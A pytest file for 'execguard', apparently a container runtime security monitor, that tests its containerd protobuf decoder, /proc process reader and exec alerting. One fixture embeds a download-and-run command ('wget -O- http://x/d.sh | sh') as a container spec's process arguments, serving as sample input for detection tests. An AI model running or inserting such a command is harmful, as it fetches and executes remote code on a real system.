"""The protobuf wire codec of watch --containerd (live/containerd_wire.py) and its /proc reader, without a daemon.

Messages are built field by field with the encoder and read back; the real daemon's bytes are read in
tests/test_watch_containerd.py."""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from execguard.engine.load import load_rules
from execguard.engine.match import Engine
from execguard.live import containerd_wire as w
from execguard.live.containerd import ContainerdInput, socket_path
from execguard.live.containerd_proc import EXITED, NOT_VISIBLE, REUSED, ProcReader


def msg(*parts: bytes) -> bytes:
    return b"".join(parts)


def sub(number: int, body: bytes) -> bytes:
    return w._key(number, w.LEN) + w._encode_varint(len(body)) + body


def envelope(topic: str, event: bytes, ns: str = "k8s.io", seconds: int = 1764662400, nanos: int = 5) -> bytes:
    ts = msg(w.encode_varint_field(1, seconds), w.encode_varint_field(2, nanos))
    anyv = msg(w.encode_string(1, "containerd.events." + topic), sub(2, event))
    return msg(sub(1, ts), w.encode_string(2, ns), w.encode_string(3, topic), sub(4, anyv))


def test_varint_round_trip_and_limits() -> None:
    for v in (0, 1, 127, 128, 300, 2**32, 2**63 - 1, 2**64 - 1):
        data = w._encode_varint(v)
        assert w._varint(data, 0) == (v, len(data))
    with pytest.raises(w.WireError):
        w._varint(b"\x80\x80", 0)  # cut short
    with pytest.raises(w.WireError):
        w._varint(b"\xff" * 11, 0)  # longer than any 64-bit value


def test_envelope_and_exec_started() -> None:
    body = msg(w.encode_string(1, "c" * 64), w.encode_string(2, "exec-1"), w.encode_varint_field(3, 4242))
    env = w.decode_envelope(envelope("/tasks/exec-started", body))
    assert (env.namespace, env.topic, env.time) == ("k8s.io", "/tasks/exec-started", "2025-12-02T08:00:00.000000005Z")
    assert env.time_ns == 1764662400 * 10**9 + 5
    task = w.decode_task(env.topic, env.event.value)
    assert (task.container_id, task.exec_id, task.pid) == ("c" * 64, "exec-1", 4242)


def test_task_create_start_exit_fields() -> None:
    create = msg(w.encode_string(1, "abc"), w.encode_string(2, "/run/bundle"), sub(3, b"\x0a\x03ext"), w.encode_varint_field(6, 77))
    assert w.decode_task("/tasks/create", create) == w.TaskEvent("abc", "", 77, None)
    assert w.decode_task("/tasks/start", msg(w.encode_string(1, "abc"), w.encode_varint_field(2, 78))).pid == 78
    exit_ = msg(w.encode_string(1, "abc"), w.encode_string(2, "e1"), w.encode_varint_field(3, 79), w.encode_varint_field(4, 137))
    assert w.decode_task("/tasks/exit", exit_) == w.TaskEvent("abc", "e1", 79, 137)
    with pytest.raises(KeyError):
        w.decode_task("/images/create", b"")


def test_unknown_fields_of_every_wire_type_are_skipped() -> None:
    extra = msg(w.encode_varint_field(20, 5), w._key(21, w.FIXED64) + b"\0" * 8, w._key(22, w.FIXED32) + b"\0" * 4, sub(23, b"zz"))
    body = msg(extra, w.encode_string(1, "abc"), w.encode_string(2, "e"), w.encode_varint_field(3, 9))
    assert w.decode_task("/tasks/exec-started", body) == w.TaskEvent("abc", "e", 9, None)


def test_container_with_labels_image_and_spec() -> None:
    spec = orjson.dumps({"process": {"args": ["sh", "-c", "wget -O- http://x/d.sh | sh"]}})
    labels = [("io.kubernetes.pod.name", "web-1"), ("io.kubernetes.pod.namespace", "shop"), ("io.kubernetes.container.name", "app")]
    container = msg(
        w.encode_string(1, "abc"),
        *(sub(2, msg(w.encode_string(1, k), w.encode_string(2, v))) for k, v in labels),
        w.encode_string(3, "docker.io/library/nginx:1.27"),
        sub(4, w.encode_string(1, "io.containerd.runc.v2")),
        sub(5, msg(w.encode_string(1, "types.containerd.io/opencontainers/runtime-spec/1/Spec"), sub(2, spec))),
        w.encode_string(11, "sandbox-1"),
    )
    c = w.decode_get_container_response(sub(1, container))
    assert c.labels == dict(labels) and c.image == "docker.io/library/nginx:1.27" and c.runtime == "io.containerd.runc.v2"
    assert c.sandbox == "sandbox-1" and orjson.loads(c.spec.value)["process"]["args"][0] == "sh"
    assert w.encode_get_container("abc") == b"\x0a\x03abc"
    assert w.encode_subscribe(['topic~="/tasks/"']) == w.encode_string(1, 'topic~="/tasks/"')


@pytest.mark.parametrize(
    "data",
    [b"\x0a\x05ab", b"\x08", b"\x0b", b"\x00\x01", b"\x19\x00", b"\x0a\x02\xff\xfe", b"\x10\x01"],
    ids=["len-past-end", "varint-missing", "group", "field-0", "fixed64-short", "not-utf8", "number-for-string"],
)
def test_malformed_bytes_raise_wire_error(data: bytes) -> None:
    with pytest.raises(w.WireError):
        w.decode_envelope(data)


@given(st.binary(max_size=200))
def test_any_bytes_decode_or_raise_wire_error(data: bytes) -> None:
    for decode in (w.decode_envelope, w.decode_get_container_response, lambda b: w.decode_task("/tasks/exec-started", b)):
        with contextlib.suppress(w.WireError):
            decode(data)


def test_socket_path_forms() -> None:
    assert socket_path("unix:///run/containerd/containerd.sock") == "/run/containerd/containerd.sock"
    assert socket_path("/run/containerd/containerd.sock") == "/run/containerd/containerd.sock"
    for bad in ("tcp://127.0.0.1:1234", "unix://relative.sock", "containerd.sock"):
        with pytest.raises(ValueError):
            socket_path(bad)


def test_proc_reader_reads_a_live_process_and_names_a_gone_one(tmp_path: Path) -> None:
    argv = [sys.executable, "-c", "import time; time.sleep(30)", "two words"]
    p = subprocess.Popen(argv, cwd=tmp_path)
    try:
        reader = ProcReader()
        deadline = time.monotonic() + 10
        got: list[str] = []
        while got != argv and time.monotonic() < deadline:
            got, proc = reader.process(p.pid, time.time_ns(), "e1")
        assert got == argv
        assert proc.uid == os.geteuid() and proc.ppid == os.getpid() and proc.cwd == str(tmp_path) and proc.known == ""
        assert proc.exe == os.path.realpath(sys.executable) and proc.parent_exe == os.readlink("/proc/self/exe")
        assert proc.parent_command[:1] == [sys.orig_argv[0]] and proc.exec_id == "e1" and proc.in_init_tree is False
        # an event from long before the process started: its pid was reused
        assert reader.process(p.pid, time.time_ns() - 3600 * 10**9)[1].known == REUSED
    finally:
        p.kill()
        p.wait()
    argv2, gone = ProcReader().process(p.pid, time.time_ns())
    assert argv2 == [] and gone.known == EXITED
    blind = ProcReader()
    blind.visible = False
    assert blind.process(os.getpid())[1].known == NOT_VISIBLE


def test_an_exec_gone_before_it_was_read_alerts_with_the_reason() -> None:
    inp = ContainerdInput("unix:///nonexistent/containerd.sock")
    pid = subprocess.run(["/bin/sh", "-c", "echo $$"], capture_output=True, text=True, check=True).stdout.strip()
    body = msg(w.encode_string(1, "f" * 64), w.encode_string(2, "gone-1"), w.encode_varint_field(3, int(pid)))
    [ev] = inp.handle(w.decode_envelope(envelope("/tasks/exec-started", body, seconds=int(time.time()))))
    assert ev.action == "runtime_exec" and ev.command == [] and ev.process is not None and ev.process.known == EXITED
    [alert] = Engine(load_rules([])).run([ev])
    assert alert.lead.rule_id == "runtime-exec"
    assert alert.lead.reason.endswith(f"argv unknown: {EXITED}")
    assert inp.unread == 1


def test_no_containerd_warns_once_retries_and_stops_promptly(tmp_path: Path) -> None:
    warnings: list[str] = []
    inp = ContainerdInput(f"unix://{tmp_path / 'containerd.sock'}", warn=warnings.append)
    stop = threading.Event()
    t = threading.Thread(target=inp.run, args=(lambda ev: None, stop), daemon=True)
    t.start()
    deadline = time.monotonic() + 30
    while not warnings and time.monotonic() < deadline:
        time.sleep(0.05)
    assert warnings and "reconnecting" in warnings[0] and str(tmp_path) in warnings[0]
    assert not inp.connected.is_set()
    stop.set()
    t.join(10)
    assert not t.is_alive()
    assert len(warnings) <= 2  # one per outage, not one per retry


def test_scan_messages_namespaces_tasks_and_pids() -> None:
    nss = msg(sub(1, w.encode_string(1, "k8s.io")), sub(1, w.encode_string(1, "moby")))
    assert w.decode_namespaces(nss) == ["k8s.io", "moby"]
    running = msg(w.encode_string(2, "abc"), w.encode_varint_field(3, 10), w.encode_varint_field(4, w.RUNNING))
    stopped = msg(w.encode_string(2, "def"), w.encode_varint_field(3, 11), w.encode_varint_field(4, 3))
    assert w.decode_tasks(msg(sub(1, running), sub(1, stopped))) == [w.TaskEvent("abc", "", 10)]
    details = msg(w.encode_string(1, "containerd.runc.v1.ProcessDetails"), sub(2, w.encode_string(1, "exec-7")))
    pids = msg(sub(1, w.encode_varint_field(1, 10)), sub(1, msg(w.encode_varint_field(1, 12), sub(2, details))))
    assert w.decode_pids(pids) == [(10, ""), (12, "exec-7")]
